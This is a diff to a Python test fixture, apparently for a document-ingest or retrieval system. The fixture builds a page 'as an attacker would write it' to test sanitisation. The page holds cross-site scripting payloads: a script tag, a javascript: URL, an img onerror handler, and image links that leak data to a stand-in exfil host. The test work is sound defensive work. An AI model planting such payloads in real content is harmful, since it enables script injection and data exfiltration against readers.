@@ -101,13 +101,14 @@ class ExfilHost:
 
 
 def unsafe_document(exfil: str) -> dict[str, Any]:
-    """A page as an attacker would write it: script, an image leaking to their host, javascript: and data: links."""
+    """A page as an attacker would write it: script, an image leaking to their host, javascript: and data: links.
+    Plain text, so its markup reaches the passages as written (a markdown page loses it at ingest)."""
     return {
         "doc_id": "guest-wifi",
         "title": "Guest wifi <b>and</b> visitors",
         "url": "javascript:window.__pwned='url'",
         "text": (
-            "# Guest wifi\n\nThe guest wifi network is called Northwind-Guest <script>window.__pwned = 'script'"
+            "The guest wifi network is called Northwind-Guest <script>window.__pwned = 'script'"
             "</script> and its password changes every Monday. Visitors get the password from reception "
             f'<img src="{exfil}/pixel.png?leak=wifi" onerror="window.__pwned=\'img\'"> '
             f"![badge]({exfil}/badge.png?leak=md) on arrival, and find [the floor plan](javascript:window.__pwned="
